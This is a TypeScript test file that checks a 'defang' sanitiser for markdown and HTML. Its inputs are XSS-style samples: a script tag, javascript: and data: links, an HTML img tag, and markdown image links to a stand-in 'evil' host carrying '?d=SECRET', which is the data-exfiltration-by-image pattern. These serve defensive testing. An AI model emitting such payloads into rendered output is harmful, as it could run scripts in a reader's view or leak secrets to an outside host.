import { describe, expect, it } from 'vitest'
import { defang } from '../../src/views/defang.ts'

describe('defang', () => {
  it.each([
    ['plain words', 'a < b & c > d', 'a &lt; b & c > d'],
    ['a script', '<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
    ['a comment that could pass for a seal', '<!-- #3 abc -->', '&lt;!-- #3 abc -->'],
    ['an image', 'see ![plan](http://evil/?d=SECRET)', 'see [plan](http://evil/?d=SECRET)'],
    ['an image without a name', '![](http://evil/x.png)', '[link](http://evil/x.png)'],
    ['an image behind a bang', '!![a](b.png)', '[a](b.png)'],
    ['an HTML image', '<img src=http://evil/x>', '&lt;img src=http://evil/x>'],
    ['a plain link', '[docs](https://example.org/a?b=c#d)', '[docs](https://example.org/a?b=c#d)'],
    ['a link with a title', '[docs](docs/a.md "the docs")', '[docs](docs/a.md "the docs")'],
    ['a script link', '[x](javascript:alert(1))', '[x]\\(javascript:alert(1))'],
    ['a script link in entities', '[x](&#106;avascript:alert)', '[x]\\(&#106;avascript:alert)'],
    ['a data link', '[x](data:text/html,hi)', '[x]\\(data:text/html,hi)'],
    ['a link target that goes on in the next line', '[x](', '[x]\\('],
    ['a definition', '[x]: javascript:alert(1)', '[x]\\: javascript:alert(1)'],
    ['a link by reference', '[a][b]', '[a]\\[b]'],
  ])('%s', (_, line, safe) => {
    expect(defang(line)).toBe(safe)
  })
})

describe('defang and code', () => {
  it.each([
    ['keeps a span whole', 'use `Map<key, ![x]` here', 'use `Map<key, ![x]` here'],
    ['keeps a span of two backticks', '``a`<b>``', '``a`<b>``'],
    ['keeps bars in a span without markup', '`a | b`', '`a | b`'],
    ['escapes a backtick without a partner', 'it`s <b>', 'it\\`s &lt;b>'],
    ['escapes it before a span too', '`` `<b>`', '\\`\\` `<b>`'],
    ['leaves an escaped backtick alone', '\\`<b>`', '\\`&lt;b>\\`'],
    ['takes the backslash itself into account', '\\\\`<b>`', '\\\\`<b>`'],
    ['trusts no span that a table cell could end', '| `a | <b>` |', '| \\`a | &lt;b>\\` |'],
    ['nor one beside such a span', '| `a | b` `<b>` |', '| `a | b` \\`&lt;b>\\` |'],
    ['nor one that an address could swallow', 'http://a.b/`<b>`', 'http://a.b/\\`&lt;b>\\`'],
    ['nor one that holds the end of a link', '[a`](b)<b>`', '[a\\`](b)&lt;b>\\`'],
    ['nor one with emphasis in it', '*a `<b>*`', '*a \\`&lt;b>*\\`'],
    ['nor one behind a tilde', '~`<b>`', '~\\`&lt;b>\\`'],
    ['keeps backslashes of a span it does not trust', '| `\\|<b>` |', '| \\`\\\\|&lt;b>\\` |'],
  ])('%s', (_, line, safe) => {
    expect(defang(line)).toBe(safe)
  })
})
